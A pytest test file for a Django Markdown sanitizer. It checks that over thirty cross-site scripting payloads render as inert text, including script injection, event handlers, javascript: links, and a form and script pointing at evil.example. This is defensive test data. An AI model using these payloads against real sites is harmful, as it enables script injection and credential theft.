"""Markdown with a safe subset: whatever is written, only the named elements come out, and attacks stand there as text."""
import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from pilots.markdown import ATTRIBUTES, LINK, TAGS, cleaned, plain, rendered, written_as_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://example.org' onclick=alert(1)>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "</p><script>alert(1)</script><p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    '[x](https://example.org/ "\\" onmouseover=alert(1) x=\\"")',
]


class Seen(HTMLParser):
    """What a browser would make of it: elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.other: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def faults(html: str) -> list:
    """Elements, attributes and addresses that nobody may write."""
    seen = Seen(html)
    wrong: list = list(seen.other)
    for tag, attributes in seen.elements:
        wrong += [tag] if tag not in TAGS else []
        wrong += [name for name in attributes if name not in {*ATTRIBUTES.get(tag, ()), "rel" if tag == "a" else ""}]
        wrong += [attributes["href"]] if "href" in attributes and not LINK.match(attributes["href"]) else []
    return wrong


def test_there_are_at_least_thirty_payloads():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_shows_as_text(payload):
    html = rendered(payload)

    assert faults(html) == []
    dangerous = payload.partition("(https")[0].strip(" #`[]!()<>&;").split("](")[0]
    assert dangerous.replace("&#58;", ":") in Seen(html).text


@pytest.mark.parametrize("gate", [lambda text: written_as_html(text).replace(' title="', ' rel="'), cleaned], ids=["parser", "nh3"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_gate_alone_lets_nothing_through(gate, payload):
    assert faults(gate(payload)) == []


def test_headings_begin_below_those_of_the_page_and_keep_their_order():
    assert rendered("# A\n\n## B\n\n###### C") == "<h3>A</h3>\n<h4>B</h4>\n<h6>C</h6>\n"
    assert rendered("## A\n\n### B", 4) == "<h4>A</h4>\n<h5>B</h5>\n"


def test_links_are_marked_and_others_stay_text():
    rel = 'rel="nofollow noopener noreferrer"'

    assert rendered("[a](https://example.org/ä)") == f'<p><a href="https://example.org/%C3%A4" {rel}>a</a></p>\n'
    assert rendered("<mailto:a@example.org>") == f'<p><a href="mailto:a@example.org" {rel}>mailto:a@example.org</a></p>\n'
    assert rendered("[a](/areas/)") == "<p>[a](/areas/)</p>\n"


def test_what_people_write_comes_out_as_they_meant_it():
    assert rendered("3 < 4 & *yes*\nnext\n\n- a\n- b\n\n3. c") == (
        "<p>3 &lt; 4 &amp; <em>yes</em><br>\nnext</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start=\"3\">\n<li>c</li>\n</ol>\n"
    )


def test_plain_keeps_the_words_in_one_line():
    assert plain("# Otsikko\n\n**Opetus** [linkki](https://example.org)\nrivi\n\n- kohta") == "Otsikko Opetus linkki rivi kohta"


def test_filter_is_the_same_rendering():
    template = Template("{% load marked %}{{ text|markdown }}")

    assert template.render(Context({"text": "# A <b>"})) == rendered("# A <b>")


@pytest.mark.parametrize(
    ("written", "links"),
    [
        ("Katso https://example.org/a_b(c).", ["https://example.org/a_b(c)"]),
        ("(https://example.org/x), https://example.org:8000?q=1!", ["https://example.org/x", "https://example.org:8000?q=1"]),
        ("[linkki](https://example.org/y) `https://koodi.example`", ["https://example.org/y"]),
        ("[https://yksi.example](https://toinen.example)", ["https://toinen.example"]),
        ("https://javascript:alert(1) https:// javascript://example.org xhttps://example.org", []),
        ('https://example.org/"onmouseover="alert(1)', ["https://example.org/"]),
    ],
)  # fmt: skip
def test_address_that_stands_in_the_text_becomes_a_link(written: str, links: list[str]) -> None:
    assert re.findall(r'<a href="([^"]*)"', rendered(written)) == links
    assert rendered(written).count("<a ") == len(links)
